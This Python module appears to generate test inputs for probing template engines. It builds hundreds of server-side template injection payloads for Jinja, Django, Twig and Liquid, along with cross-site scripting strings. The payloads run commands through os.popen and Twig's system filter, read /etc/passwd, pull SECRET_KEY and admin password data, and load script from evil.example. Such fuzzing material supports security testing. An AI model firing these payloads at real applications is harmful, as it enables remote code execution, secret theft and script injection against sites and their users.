"""What is tried against template languages: injections of the known kinds, and markup that wants to come alive.

Each kind is a handful of forms; numbers and names in them are made, so that an answer shows what was worked out.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

A, B = 7919, 6661
PRODUCT = str(A * B)
"""No payload says it; what worked one out does."""
SECRETS = (
    *("SECRET_KEY", "settings.SECRET_KEY", "config.items()", "self.__dict__", "request.environ", "config", "settings"),
    *("request.META.items", "app.request.query.all", "_context", "env.DATABASE_URL", "globals()", "self", "T.os"),
)

_ARITHMETIC = (
    "{A}*{B}",
    "{A} * {B}",
    "({A})*({B})",
    "'{A}'|int * {B}",
    "{A}.__mul__({B})",
    "[{A}*{B}][0]",
    "{A}*{B}|string",
    "{A}*{B}//1",
    "+{A}*{B}",
    "'%d' % ({A}*{B})",
)
_OPENINGS = (
    "{{{{ {x} }}}}",
    "{{{{{x}}}}}",
    "{{{{- {x} -}}}}",
    "{{% print({x}) %}}",
    "${{{x}}}",
    "#{{{x}}}",
    "<%= {x} %>",
    "{{{{= {x} }}}}",
    "*{{{x}}}",
    "@({x})",
    "{{% raw %}}{{{{ {x} }}}}{{% endraw %}}",
)

_JINJA = (
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{{{ ''.__class__.__base__.__subclasses__()[{n}] }}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}",
    "{{{{ lipsum.__globals__['os'].popen('id').read() }}}}",
    "{{{{ joiner.__init__.__globals__.os.popen('id').read() }}}}",
    "{{{{ namespace.__init__.__globals__.os.popen('id').read() }}}}",
    "{{{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}}}",
    "{{{{ url_for.__globals__ }}}}",
    "{{{{ get_flashed_messages.__globals__ }}}}",
    "{{{{ config.from_object('os') }}}}",
    "{{{{ first_name.__class__ }}}}",
    "{{{{ first_name|attr('__class__') }}}}",
    "{{{{ first_name['__class__'] }}}}",
    "{{{{ contact.__class__.__init__.__globals__ }}}}",
    "{{{{ contact|attr('\\x5f\\x5fclass\\x5f\\x5f') }}}}",
    "{{{{ ()|attr('__class__')|attr('__base__') }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "{{% set x = {A}*{B} %}}{{{{ x }}}}",
    "{{% import 'os' as os %}}{{{{ os.popen('id') }}}}",
    "{{% extends 'base.html' %}}",
    "{{% macro x() %}}{A}{{% endmacro %}}{{{{ x() }}}}",
    "{{% call(x) y() %}}{{% endcall %}}",
    "{{% filter upper %}}x{{% endfilter %}}",
    "{{{{ range({n}) | list }}}}",
    "{{{{ dict(a={A})['a'] * {B} }}}}",
    "{{{{ [].append({n}) }}}}",
    "{{{{ 'a'.join(['b']*{n}) }}}}",
    "{{{{ self._TemplateReference__context }}}}",
)
_DJANGO = (
    "{{% load log %}}{{% get_admin_log 10 as log %}}{{% for e in log %}}{{{{ e.user.password }}}}{{% endfor %}}",
    "{{% include 'admin/base.html' %}}",
    "{{% include '../../etc/passwd' %}}",
    "{{% debug %}}",
    "{{% csrf_token %}}",
    "{{% url 'admin:index' %}}",
    "{{% now 'Y' %}}",
    "{{% with a=settings.SECRET_KEY %}}{{{{ a }}}}{{% endwith %}}",
    "{{{{ messages.storages.0.signer.key }}}}",
    "{{{{ block.super }}}}",
    "{{{{ forloop.parentloop.parentloop }}}}",
    "{{{{ contact.delete }}}}",
    "{{{{ contact.objects.all }}}}",
    "{{{{ contact._meta.concrete_model.objects.first.email }}}}",
    "{{{{ contact.message_set.all.0.html }}}}",
    "{{{{ brand._state.db }}}}",
    "{{{{ first_name|safe }}}}",
    "{{{{ first_name|escapejs }}}}",
    "{{{{ first_name|stringformat:'{n}s' }}}}",
    "{{% autoescape off %}}{{{{ first_name }}}}{{% endautoescape %}}",
    "{{% ssi '/etc/passwd' %}}",
    "{{% widthratio {A} 1 {B} %}}",
    "{{% templatetag openvariable %}}",
    "{{% verbatim %}}{{{{ x }}}}{{% endverbatim %}}",
    "{{# hidden #}}",
)
_TWIG = (
    "{{{{ _self.env.registerUndefinedFilterCallback('exec') }}}}{{{{ _self.env.getFilter('id') }}}}",
    "{{{{ ['id']|filter('system') }}}}",
    "{{{{ ['id', '']|sort('system') }}}}",
    "{{{{ ['id']|map('passthru')|join }}}}",
    "{{{{ {{'id':1}}|reduce('system') }}}}",
    "{{{{ app.request.server.all|join(',') }}}}",
    "{{{{ '/etc/passwd'|file_excerpt(1,30) }}}}",
    "{{{{ include(template_from_string('{{{{ {A}*{B} }}}}')) }}}}",
    "{{{{ source('/etc/passwd') }}}}",
    "{{{{ constant('PHP_VERSION') }}}}",
    "{{{{ dump(app) }}}}",
    "{{{{ _context|join }}}}",
    "{{% set cmd = 'id' %}}{{{{ [cmd]|filter('system') }}}}",
    "{{% sandbox %}}{{% include 'x' %}}{{% endsandbox %}}",
    "{{% embed 'x' %}}{{% endembed %}}",
    "{{% do {A}*{B} %}}",
    "{{% apply upper %}}x{{% endapply %}}",
    "{{{{ {A} ** {n} }}}}",
    "{{{{ {A} ~ {B} }}}}",
)
_LIQUID = (
    "{{% include 'settings' %}}",
    "{{% render 'contact', contact: contact %}}",
    "{{% capture x %}}{{{{ email }}}}{{% endcapture %}}{{{{ x }}}}",
    "{{% liquid assign x = {A} | times: {B}\n echo x %}}",
    "{{% echo 'x' %}}",
    "{{% raw %}}{{{{ {A} }}}}{{% endraw %}}",
    "{{% tablerow i in (1..{n}) %}}{{{{ i }}}}{{% endtablerow %}}",
    "{{% cycle 'a', 'b' %}}",
    "{{% increment x %}}{{% decrement x %}}",
    "{{% ifchanged %}}x{{% endifchanged %}}",
    "{{% layout 'x' %}}{{% block a %}}{{% endblock %}}",
    "{{% macro a %}}{{% endmacro %}}",
    "{{% doc %}}{{{{ {A} }}}}{{% enddoc %}}",
    "{{{{ contact[email] }}}}",
    "{{{{ contact['__class__'] }}}}",
    "{{{{ contact | json }}}}",
    "{{{{ first_name | safe }}}}",
    "{{{{ '<script>' | safe }}}}",
    "{{{{ '<b>' | newline_to_br }}}}",
    "{{{{ 'PGI+' | base64_decode }}}}",
    "{{% assign contact = '{A}' %}}{{{{ contact.email }}}}",
    "{{% for email in (1..3) %}}{{{{ email }}}}{{% endfor %}}",
    "{{% assign now = 'x' %}}",
    "{{{{ forloop.parentloop.name }}}}",
    "{{{{ settings.theme }}}}{{{{ shop.metafields }}}}{{{{ content_for_header }}}}",
    "{{{{ x | cf_text_form }}}}",
    "{{% cf_link %}}javascript:alert({n}){{% endcf_link %}}",
    "{{% for i in (1..{A}{B}) %}}x{{% endfor %}}",
    "{{% if (1..{A}{B}{A}) contains 'x' %}}y{{% endif %}}",
    "{{{{ (1..{A}{B}) | join: '' | size }}}}",
)


def injections() -> list[str]:
    """Every form, each as the first of a number and alone; more than 300."""
    sums = (one.format(x=sum_.format(A=A, B=B)) for one, sum_ in itertools.product(_OPENINGS, _ARITHMETIC))
    secrets = (one.format(x=name) for one, name in itertools.product(_OPENINGS, SECRETS))
    fixed = [one.format(A=A, B=B, n=n) for n in (3, 99999) for one in (*_JINJA, *_DJANGO, *_TWIG, *_LIQUID)]
    return list(dict.fromkeys([*sums, *secrets, *fixed]))


_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus autofocus",
    "ontoggle open",
    "onanimationstart",
    "onpointerenter",
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video",
    "details",
    "input",
    "a href=#",
    "marquee",
    "math",
    "object",
    "embed",
    "style",
    "xss",
    "form",
    "button",
    "select",
    "textarea",
    "audio src=x",
    "table",
)
_ESCAPES = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "<!--",
    "`",
    "\\",
    "&quot;>",
)
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "//evil.example",
    "https://evil.example",
    "livescript:x",
)
_PLACES = (
    "<a href='{}'>x</a>",
    "<iframe src='{}'>",
    "<form action='{}'>",
    "<img src='{}'>",
    "[x]({})",
    "![x]({})",
    "<{}>",
    "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<object data='{}'>",
    "<link rel=stylesheet href='{}'>",
    "<svg><use href='{}'/></svg>",
    "{}",
)


def _scripts() -> Iterator[str]:
    for before, element, event in itertools.product(_ESCAPES, _ELEMENTS, _EVENTS):
        name, _, more = event.partition(" ")
        yield f"{before}<{element} {name}=alert(1) {more}>"
    for before, scheme, place in itertools.product(_ESCAPES[:4], _SCHEMES, _PLACES):
        yield before + place.format(scheme)
    for before in _ESCAPES:
        yield from (
            f"{before}<script>alert(1)</script>",
            f"{before}<scr<script>ipt>alert(1)</script>",
            f"{before}<SCRIPT SRC=//evil.example>",
            f"{before}<style>@import'//evil.example'</style>",
            f'{before} onmouseover="alert(1)" x="',
        )


def scripts(number: int) -> list[str]:
    """So many strings, taken evenly from all kinds."""
    known = list(dict.fromkeys(_scripts()))
    return [known[place * len(known) // number] for place in range(min(number, len(known)))]
